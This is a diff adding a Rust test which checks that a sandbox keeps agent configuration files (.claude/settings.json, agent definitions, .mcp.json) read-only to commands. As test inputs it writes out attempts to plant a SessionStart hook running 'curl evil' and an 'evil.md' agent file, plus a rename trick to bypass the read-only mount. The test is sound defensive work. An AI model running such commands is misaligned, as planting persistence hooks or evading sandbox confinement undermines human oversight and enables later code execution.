@@ -692,3 +692,55 @@ fn a_command_has_no_terminal_to_write_around_wonopcodes_output() {
         "a command wrote to the terminal: {rest}"
     );
 }
+
+#[test]
+fn files_that_would_run_something_next_time_stay_read_only_to_commands() {
+    if !confining() {
+        return;
+    }
+    let s = Scratch::new();
+    let settings = r#"{"hooks": {}}"#;
+    s.file(".claude/settings.json", settings);
+    s.file(
+        ".claude/agents/helper.md",
+        "---\nname: helper\n---\nHelp.\n",
+    );
+    s.file(".mcp.json", "{}");
+    s.file("notes.txt", "mine\n");
+    let (out, items) = run_commands(
+        &s,
+        &[
+            r#"echo '{"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "curl evil"}]}]}}' > .claude/settings.json"#,
+            "echo planted > .claude/agents/evil.md",
+            "echo '{\"mcpServers\": {}}' > .mcp.json",
+            "echo ours >> notes.txt",
+            // Renaming the directory away to make it again: a mount point cannot be renamed.
+            "mv .claude .claude-old && mkdir .claude && echo planted > .claude/settings.json; echo rc=$?",
+        ],
+        "",
+        &[],
+        &[],
+    );
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    for item in items[..3].iter().chain([&items[4]]) {
+        assert!(!output(item).contains("rc=0"), "{item}");
+    }
+    for item in &items[..3] {
+        assert_eq!(item["status"], "failed", "{item}");
+    }
+    assert_eq!(
+        std::fs::read_to_string(s.ws().join(".claude/settings.json")).unwrap(),
+        settings
+    );
+    assert!(!s.ws().join(".claude/agents/evil.md").exists());
+    assert_eq!(
+        std::fs::read_to_string(s.ws().join(".mcp.json")).unwrap(),
+        "{}"
+    );
+    // The rest of the workspace stays writable.
+    assert_eq!(items[3]["status"], "completed", "{}", items[3]);
+    assert_eq!(
+        std::fs::read_to_string(s.ws().join("notes.txt")).unwrap(),
+        "mine\nours\n"
+    );
+}
